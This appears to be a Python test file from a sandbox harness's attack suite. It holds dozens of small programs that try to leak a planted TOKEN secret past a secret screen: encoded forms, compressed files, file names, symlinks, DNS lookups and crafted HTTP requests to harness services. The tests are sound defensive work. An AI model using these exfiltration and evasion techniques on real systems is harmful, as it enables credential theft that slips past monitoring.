"""Planted secrets, told in other words and other places."""

from __future__ import annotations

from collections.abc import Sequence

from tests.attacks.form import Attack, Weaken, python, replaced, wrapped

_EXPECT: Sequence[object] = ({"secrets": "absent"}, {"exit": 0})
_BEGIN = "import os, sys\ns = os.environ['TOKEN']\nb = s.encode()\n"
_ASK = """
import socket
def ask(data):
    sock = socket.create_connection(("model", 8080))
    sock.sendall(data)
    sock.settimeout(5)
    try: sock.recv(4096)
    except TimeoutError: pass
"""
_LOOK_UP = """
import socket
def look_up(*labels, more=b"", kind=1):
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.connect(("127.0.0.1", 53))
    sock.settimeout(5)
    name = b"".join(bytes([len(label)]) + label for label in (*labels, b"invalid")) + b"\\0"
    sock.send(b"\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0" + bytes([bool(more)]) + name + bytes([0, kind, 0, 1]) + more)
    try: sock.recv(512)
    except TimeoutError: pass
"""


def _told(
    name: str, does: str, program: str, defence: str, weaken: Weaken, **more: object
) -> Attack:
    case = python(_BEGIN + program, _EXPECT, secrets=["TOKEN"], leftover="allowed", **more)
    return Attack(name, does, case, "failed", "broke:secrets", defence, weaken)


def without(*encodings: str) -> Weaken:
    """A screen that does not know these encodings."""
    return wrapped(
        "harness.screen.secrets:forms",
        lambda forms: (
            lambda secret: {
                key: form for key, form in forms(secret).items() if key[0] not in encodings
            }
        ),
    )


def _encoded(name: str, expression: str, *encodings: str) -> Attack:
    return _told(
        f"secret-in-{name}",
        f"prints the secret in {name}",
        f"import base64, codecs, urllib.parse\nprint('see', {expression})",
        "each form of a secret is looked for",
        without(*encodings),
    )


_PLAIN = replaced("harness.screen.secrets:bare", lambda data: b"")
_PACKED = replaced("harness.screen.secrets:inflated", lambda data, suspects: [])
_LONG = "text = b'export A=1\\n' * 30 + b + b'\\nexport TOKEN\\n' * 30\n"


def _unheard(service: str) -> Weaken:
    """No secret is noticed in what services are told."""
    return wrapped(
        "harness.live.assemble:_hits",
        lambda hits: (
            lambda seen, screen: (
                hit for hit in hits(seen, screen) if not hit.where.startswith(f"request:{service}:")
            )
        ),
    )


_NO_NAMES = replaced("harness.live.assemble:hits_in_names", lambda *_: ())

ATTACKS = (
    _encoded("base64", "base64.b64encode(b'k' + b).decode()", "base64"),
    _encoded("base32", "base64.b32encode(b'kk' + b).decode()", "base32"),
    _encoded("hexadecimal", "b.hex(':')", "hex"),
    _encoded("decimal-numbers", "list(b)", "decimal"),
    _encoded("octal-numbers", "' '.join('%03o' % n for n in b)", "octal"),
    _encoded("binary-numbers", "' '.join(format(n, '08b') for n in b)", "binary"),
    _encoded("rot13", "codecs.encode(s, 'rot13')", "rot13"),
    _encoded("reverse", "s[::-1]", "reversed"),
    _encoded("base85", "base64.b85encode(b).decode()", "base85"),
    _encoded("base64-twice", "base64.b64encode(base64.b64encode(b)).decode()", "base64-base64"),
    _encoded("base64-of-hexadecimal", "base64.b64encode(b.hex().encode()).decode()", "hex-base64"),
    _encoded("hexadecimal-of-base64", "base64.b64encode(b).hex()", "base64-hex"),
    _told(
        "secret-percent-encoded",
        "prints the secret with every byte percent-encoded",
        "print(''.join('%%%02x' % n for n in b))",
        "escapes are undone before the second look",
        _PLAIN,
    ),
    _told(
        "secret-in-lines",
        "prints the secret a few letters a line, quoted",
        "print('\\n'.join(repr(s[n:n + 5]) for n in range(0, len(s), 5)))",
        "what is wrapped is looked at as if it were not",
        _PLAIN,
    ),
    _told(
        "secret-in-wide-letters",
        "prints the secret as UTF-16",
        "sys.stdout.buffer.write(s.encode('utf-16'))",
        "what is wrapped is looked at as if it were not",
        _PLAIN,
    ),
    _told(
        "secret-in-gzip",
        "writes the secret into a compressed file",
        _LONG + "import gzip; open('a.gz', 'wb').write(gzip.compress(text))",
        "compressed pieces are looked into",
        _PACKED,
    ),
    _told(
        "secret-in-zip-in-base64",
        "prints an archive with the secret in base64, wrapped",
        _LONG + "import base64, io, zipfile; f = io.BytesIO(); z = zipfile.ZipFile(f, 'w', 8)\n"
        "z.writestr('a', text); z.close(); print(base64.encodebytes(f.getvalue()).decode())",
        "compressed pieces are looked into, also in base64",
        _PACKED,
    ),
    _told(
        "secret-in-lzma",
        "writes the secret into a file of the older LZMA format",
        _LONG
        + "import lzma; open('a.lzma', 'wb').write(lzma.compress(text, format=lzma.FORMAT_ALONE))",
        "compressed pieces are looked into",
        _PACKED,
    ),
    _told(
        "secret-in-deflate",
        "posts the secret as a deflate stream without a header, as some clients do",
        _LONG
        + _ASK
        + "import zlib; c = zlib.compressobj(9, 8, -15); d = c.compress(text) + c.flush()\n"
        "ask(b'POST /v1/x HTTP/1.1\\r\\nHost: m\\r\\nContent-Encoding: deflate\\r\\n'\n"
        "    b'Content-Length: %d\\r\\n\\r\\n' % len(d) + d)",
        "compressed pieces are looked into",
        _unheard("model"),
    ),
    _told(
        "secret-in-quoted-printable",
        "prints the secret as quoted-printable with every byte escaped",
        "print('=\\n'.join(''.join('=%02X' % n for n in b[at:at + 20]) for at in range(0, 60, 20)))",
        "escapes are undone before the second look",
        without("hex"),
    ),
    _told(
        "secret-in-uuencode",
        "prints the secret uuencoded",
        "import binascii\nprint('begin 644 a')\n"
        "print(''.join(binascii.b2a_uu(b[n:n + 45]).decode() for n in range(0, len(b), 45)) + 'end')",
        "each form of a secret is looked for",
        _PACKED,
    ),
    _told(
        "secret-in-a-name",
        "makes an empty file that is called like the secret",
        "open(s, 'w').close()",
        "names of files are searched",
        _NO_NAMES,
    ),
    _told(
        "secret-in-a-link",
        "makes a link that leads to the secret",
        "os.symlink('/' + s[:30] + '/../' + s, 'a')",
        "what links lead to is searched",
        _NO_NAMES,
    ),
    _told(
        "secret-looked-up",
        "asks the name server for the secret, in two labels",
        _LOOK_UP + "look_up(b[:25], b[25:])",
        "names that were looked up are searched",
        _NO_NAMES,
    ),
    _told(
        "secret-in-an-address-to-find",
        "asks the name server for text records below the secret in base32",
        "import base64\n" + _LOOK_UP + "e = base64.b32encode(b); look_up(e[:40], e[40:], kind=16)",
        "names that were looked up are searched",
        _NO_NAMES,
    ),
    _told(
        "secret-in-a-path",
        "asks the model for a path that is the secret",
        _ASK + "ask(b'GET /' + b + b' HTTP/1.1\\r\\nHost: m\\r\\n\\r\\n')",
        "the line and the headers of a request are searched",
        _unheard("model"),
    ),
    _told(
        "secret-in-the-name-of-a-header",
        "sends a header that is called like the secret",
        _ASK + "ask(b'GET / HTTP/1.1\\r\\n' + b + b': x\\r\\nHost: m\\r\\n\\r\\n')",
        "the line and the headers of a request are searched",
        _unheard("model"),
    ),
    _told(
        "secret-in-a-trailer",
        "sends the secret behind the last chunk of a body",
        _ASK
        + "ask(b'POST /v1/chat/completions HTTP/1.1\\r\\nHost: m\\r\\nTransfer-Encoding: chunked'\n"
        "    b'\\r\\n\\r\\n1\\r\\na\\r\\n0\\r\\nX: ' + b + b'\\r\\n\\r\\n')",
        "whatever arrives is searched, request or not",
        _unheard("model"),
    ),
    _told(
        "secret-in-half-a-request",
        "begins a request with the secret and never ends it",
        _ASK + "ask(b'GET /' + b)",
        "whatever arrives is searched, request or not",
        _unheard("model"),
    ),
    _told(
        "secret-in-no-request",
        "greets the model in TLS, the secret within",
        _ASK + "ask(b'\\x16\\x03\\x01' + b + b'\\r\\n\\r\\n')",
        "whatever arrives is searched, request or not",
        _unheard("model"),
    ),
    _told(
        "secret-behind-a-crowd",
        "tells the secret on a connection that nobody has taken yet, behind hundreds of idle ones",
        _ASK + "crowd = [socket.create_connection(('model', 8080)) for _ in range(250)]\n"
        "crowd[-1].sendall(b'GET /' + b + b' HTTP/1.1\\r\\nHost: m\\r\\n\\r\\n')",
        "what waits in the kernel's queues is taken down after the subject's death",
        _unheard("model"),
    ),
    _told(
        "secret-to-an-upstream",
        "tells the secret to a service that the case declares",
        _ASK.replace("model", "upstream")
        + "ask(b'GET /?q=' + b + b' HTTP/1.1\\r\\nHost: u\\r\\n\\r\\n')",
        "every service counts, unless it is excepted",
        _unheard("upstream"),
        services={"http": {"upstream": [{"on": "GET /", "reply": {"status": 200}}]}},
    ),
)
